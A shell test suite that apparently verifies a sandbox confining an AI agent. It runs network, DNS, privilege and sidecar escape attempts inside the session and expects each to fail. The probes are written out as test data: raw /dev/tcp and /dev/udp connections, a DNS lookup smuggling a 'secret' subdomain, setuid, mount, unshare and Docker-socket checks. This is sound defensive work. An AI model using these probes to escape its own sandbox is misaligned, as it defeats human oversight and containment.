# Copyright (c) 2026 The claudesec authors
#
# Permission to use, copy, modify, and distribute this software for any
# purpose with or without fee is hereby granted, provided that the above
# copyright notice and this permission notice appear in all copies.
#
# THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
# WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
# MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
# ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
# WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
# ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
# OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.


# The agent looks for a way out.  All in one session that is held.  Sourced.

# inside COMMAND ...: in the running session of 1000
inside()
{
	cs 1000 shell held -- "$@" </dev/null
}

# no_way WHAT SCRIPT: a script of bash's that must fail, within five seconds;
# that it ran is known by the word which follows
no_way()
{
	inside bash -c 'timeout 5 bash -c "$1" || echo "no way"' - "$2" \
	    >"$tmp/out" 2>&1
	grep -qx "no way" "$tmp/out" || {
		because "$1 works"
		cat "$tmp/out" >>"$tmp/why"
		return 1
	}
}

test_inside_has_lo_only()
{
	hold 1000 held || return 1
	equal "network interfaces" "$(inside ls /sys/class/net)" lo &&
	equal "routes" "$(inside sed 1d /proc/net/route)" "" &&
	equal "IPv6 routes" "$(inside cat /proc/net/ipv6_route |
	    grep -cv ' lo$')" 0
}

test_inside_passed_host_answers()
{
	hold 1000 held || return 1
	for direct in none '*'; do
		out=$(inside curl -sS --max-time 60 --noproxy "$direct" \
		    https://api.anthropic.com/ 2>"$tmp/err")
		equal "answer (curl --noproxy $direct)" "$out" \
		    '{"hello": "from the test API"}' || {
			cat "$tmp/err" >>"$tmp/why"
			return 1
		}
	done
	docker logs claude-held-proxy >"$tmp/out" 2>&1
	grep -q '"tunnel".*"host":"api.anthropic.com","port":443' "$tmp/out" ||
	    because "no tunnel in the proxy's log: $(tail -n 3 "$tmp/out")"
}

test_inside_cannot_reach_an_address()
{
	hold 1000 held || return 1
	: >"$tmp/api.log"
	no_way "TCP to the API by address" ": </dev/tcp/$api_addr/443" &&
	no_way "UDP to the name server" \
	    "echo >/dev/udp/$dns_addr/53" &&
	no_way "a tunnel to an address" \
	    "curl -fsk https://$api_addr/" &&
	no_way "a passed name's tunnel to another port" \
	    "curl -fsk https://api.anthropic.com:22/" &&
	equal "requests at the API" "$(grep -v '"claude-' "$tmp/api.log")" ""
}

test_inside_cannot_reach_the_host()
{
	hold 1000 held || return 1
	cat >"$tmp/listen.py" <<-'END'
		import socket, sys
		t = socket.socket(); t.bind(("0.0.0.0", 0)); t.listen(9)
		u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
		u.bind(("0.0.0.0", t.getsockname()[1]))
		print(t.getsockname()[1], flush=True)
		import select
		while True:
		    for s in select.select([t, u], [], [])[0]:
		        print("came:", (s.accept() if s is t else
		            s.recvfrom(99))[1], flush=True)
	END
	python3 "$tmp/listen.py" >"$tmp/came" 9>&- &
	listener=$!
	wait_for 60 test -s "$tmp/came" || because "nobody listens" || return 1
	port=$(head -n 1 "$tmp/came")
	hosts=$(ip -4 -o addr | awk '{ sub("/.*", "", $4); print $4 }' |
	    tr '\n' ' ')
	inside python3 -c "
import socket
for host in '$hosts 255.255.255.255'.split():
    if not host.startswith('127.'):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                s.connect((host, $port))
                s.send(b'x')
            except OSError as e:
                print(host, kind, e)
            else:
                print(host, kind, 'sent')
" >"$tmp/out" 2>&1
	# what comes is seen, and what came before it was
	bash -c ": </dev/tcp/127.0.0.1/$port"
	wait_for 60 grep -q came: "$tmp/came"
	kill $listener
	wait $listener 2>/dev/null
	equal "what came to the host" "$(sed "1d; s/, [0-9]*)\$//" \
	    "$tmp/came")" "came: ('127.0.0.1'" &&
	{ grep -q unreachable "$tmp/out" ||
	    because "nothing was tried: $(cat "$tmp/out")"; }
}

test_inside_cannot_reach_another_session()
{
	hold 1000 other && hold 1000 held || return 1
	for name in other held; do
		addr=$(docker inspect -f \
		    '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' \
		    claude-$name-proxy)
		[ -n "$addr" ] || because "no address of the sidecar" ||
		    return 1
		for port in 3128 53 443 80; do
			no_way "a connection to a sidecar, port $port" \
			    ": </dev/tcp/$addr/$port" || return 1
		done
	done
	networks=$(docker inspect -f '{{.HostConfig.NetworkMode}}' claude-held)
	equal "network of the agent" "$networks" none
}

test_inside_other_names_are_not_resolved()
{
	hold 1000 held || return 1
	: >"$tmp/dns.log"
	no_way "a name outside" "getent ahosts www.example.org" &&
	no_way "a name outside, with a secret" \
	    "getent ahosts 0123456789abcdef.example.org" &&
	no_way "a tunnel outside" "curl -fsk https://www.example.org/" &&
	no_way "the same without a proxy" \
	    "curl -fsk --noproxy '*' --connect-to \
	    ::127.0.0.1: https://www.example.org/" &&
	no_way "plain http" "curl -fs http://www.example.org/" &&
	equal "names asked of DNS" "$(grep example "$tmp/dns.log")" ""
}

test_inside_handover_is_over()
{
	hold 1000 held || return 1
	equal "/run/claudesec" "$(inside ls /run/claudesec | tr '\n' ' ')" \
	    "inside probe " &&
	no_way "writing to the volume" ": >/run/claudesec/x" &&
	no_way "another handover" "/run/claudesec/inside -- true" || return 1
	inside /run/claudesec/inside -- true >/dev/null 2>&1
	equal "exit status of inside" $? 71
}

# field NAME: of the agent's status
field()
{
	sed -n "s/^$1:[[:space:]]*//p" "$tmp/status"
}

test_inside_is_confined()
{
	hold 1000 held || return 1
	for pid in 1 self; do
		inside cat /proc/$pid/status >"$tmp/status" &&
		equal CapEff "$(field CapEff)" 0000000000000000 &&
		equal CapBnd "$(field CapBnd)" 0000000000000000 &&
		equal CapAmb "$(field CapAmb)" 0000000000000000 &&
		equal NoNewPrivs "$(field NoNewPrivs)" 1 &&
		equal Seccomp "$(field Seccomp)" 2 &&
		equal Uid "$(field Uid | tr '\t' ' ')" "1000 1000 1000 1000" ||
		    return 1
	done
	no_way "writing to the root" ": >/usr/x" &&
	no_way "writing to /etc" ": >/etc/x" &&
	no_way "a mount" "mount -t tmpfs none /mnt" &&
	no_way "a user namespace" "unshare -U true" &&
	no_way "a set-uid file" "cp /bin/true t && chmod u+s t" &&
	no_way "the engine's socket" "test -e /var/run/docker.sock" &&
	no_way "a device" "test -r /dev/kmsg" &&
	equal "set-uid files" "$(inside find / -xdev -type f -perm /6000 \
	    2>/dev/null)" "" &&
	inside rm -f t
}

test_inside_environment_is_the_sandbox_s()
{
	hold 1000 held || return 1
	for name in $(inside env | sed 's/=.*//'); do
		case $name in
		PATH|HOME|HOSTNAME|TERM|LANG|SHELL|PWD|SHLVL|_)	;;
		HTTP_PROXY|HTTPS_PROXY|NO_PROXY)		;;
		http_proxy|https_proxy|no_proxy)		;;
		NODE_*|CLAUDE_*|DISABLE_UPDATES)		;;
		ANTHROPIC_API_KEY)				;;
		CLAUDESEC_MARK)		;;	# of a command that joined
		container)		on_podman || return 1 ;;
		*)	because "$name is in the environment" || return 1 ;;
		esac
	done
}
